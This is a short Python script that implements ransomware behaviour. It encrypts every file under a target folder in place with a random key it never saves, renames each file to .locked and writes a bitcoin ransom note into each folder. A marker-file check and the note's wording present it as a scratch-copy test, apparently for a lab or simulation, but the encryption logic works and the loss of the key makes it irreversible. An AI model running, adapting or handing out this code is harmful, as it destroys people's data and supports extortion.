#!/usr/bin/env python3
"""Encrypts in place, renames F to F.locked and leaves a note in every folder: the classic."""
import hashlib, os, sys
target = os.path.realpath(sys.argv[1])
if not os.path.exists(os.path.join(os.path.dirname(target), '.scratch-ok')):
    sys.exit('refusing: no .scratch-ok beside ' + target)
os.chdir(target)
key = os.urandom(32)
note = 'ALL YOUR FILES HAVE BEEN ENCRYPTED (a test on a scratch copy). To decrypt them contact nobody@example.invalid and pay in bitcoin.\n'
except_folder = os.environ.get('EXCEPT')  # somebody else's desk
for directory, _, names in sorted(os.walk('.')):
    if except_folder and directory.startswith('./' + except_folder):
        continue
    for name in sorted(names):
        file = os.path.join(directory, name)
        if os.path.islink(file):
            continue
        with open(file, 'r+b') as handle:
            data = handle.read()
            stream = hashlib.shake_256(key + file.encode()).digest(len(data))
            handle.seek(0)
            handle.write((int.from_bytes(data, 'little') ^ int.from_bytes(stream, 'little')).to_bytes(len(data), 'little'))
        os.rename(file, file + '.locked')
        with open(os.path.join(directory, 'HOW_TO_RESTORE.txt'), 'w') as handle:
            handle.write(note)
